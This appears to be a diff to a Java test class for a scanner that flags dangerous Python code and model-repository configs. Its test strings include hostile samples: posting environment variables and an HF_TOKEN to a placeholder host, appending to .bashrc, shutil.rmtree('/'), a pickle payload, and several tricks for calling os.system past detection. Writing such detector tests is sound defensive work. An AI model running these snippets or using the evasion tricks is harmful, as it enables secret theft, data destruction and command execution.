@@ -101,7 +101,15 @@ class ActiveTextTest {
                 "import requests, os\ndef f():\n    requests.post('http://x', json=dict(os.environ))",
                 "import requests, os\ndef f():\n    requests.post('http://x', data=os.getenv('HF_TOKEN'))",
                 "import socket\ns = socket.socket()",
-                "def f():\n    open('/var/root/.bashrc', 'a').write('x')"
+                "def f():\n    open('/var/root/.bashrc', 'a').write('x')",
+                "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
+                "import os\nobject.__getattribute__(os, 'system')('id')",
+                "import os\nos.system.__call__('id')",
+                "print.__self__.__dict__['eval']('__import__(\"os\").system(\"id\")')",
+                "import ctypes\nctypes.CDLL(None).system(b'id')",
+                "import shutil\nshutil.rmtree('/')",
+                "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')",
+                "import code\ncode.InteractiveInterpreter().runsource('import os;os.system(1)')"
             })
     void harmAtImportIsAThreat(String source) {
         assertThat(python(source).report(CODE).outcome()).isEqualTo(THREAT);
@@ -113,7 +121,8 @@ class ActiveTextTest {
                 "import os\ndef f():\n    os.system('id')",
                 "import os\nif __name__ == '__main__':\n    os.system('id')",
                 "import pickle\ndef f(p):\n    return pickle.load(open(p, 'rb'))",
-                "import torch\ndef f(p):\n    return torch.load(p)",
+                "import torch\nx = torch.load('x', weights_only=False)",
+                "import shutil\nshutil.rmtree('out')",
                 "import numpy\nx = numpy.load('a.npy', allow_pickle=True)",
                 "import yaml\ndef f(p):\n    return yaml.load(p, Loader=yaml.Loader)",
                 "import ctypes\nctypes.CDLL(None)",
@@ -134,6 +143,8 @@ class ActiveTextTest {
     @ValueSource(
             strings = {
                 "import torch\ndef f(p):\n    return torch.load(p, weights_only=True)",
+                "import torch\ndef f(p):\n    return torch.load(p, map_location='cpu', weights_only=False)",
+                "import os\nx = os.path.join.__call__('a', 'b')",
                 "import numpy\nx = numpy.load('a.npy')",
                 "import yaml\ndef f(p):\n    return yaml.load(p, Loader=yaml.SafeLoader)",
                 "import re\nP = re.compile('x')\nmodel = object()\nmodel.eval()",
@@ -186,8 +197,7 @@ class ActiveTextTest {
             value = {
                 "config.json|{\"auto_map\": {\"AutoModel\": \"other/repo--modeling.X\"}}",
                 "tokenizer_config.json|{\"auto_map\": {\"AutoTokenizer\": [null, \"other/repo--t.X\"]}}",
-                "config.json|{\"custom_pipelines\": {\"a\": {\"impl\": \"o/r--p.X\", \"pt\": [\"AutoModel\"]}}}",
-                "modules.json|[{\"type\": \"os.system\"}]"
+                "config.json|{\"custom_pipelines\": {\"a\": {\"impl\": \"o/r--p.X\", \"pt\": [\"AutoModel\"]}}}"
             })
     void codeOfAnotherRepositoryIsSuspicious(String name, String json) {
         assertThat(inspecting(model().with(name, json)).report(CODE).outcome()).isEqualTo(SUSPECT);
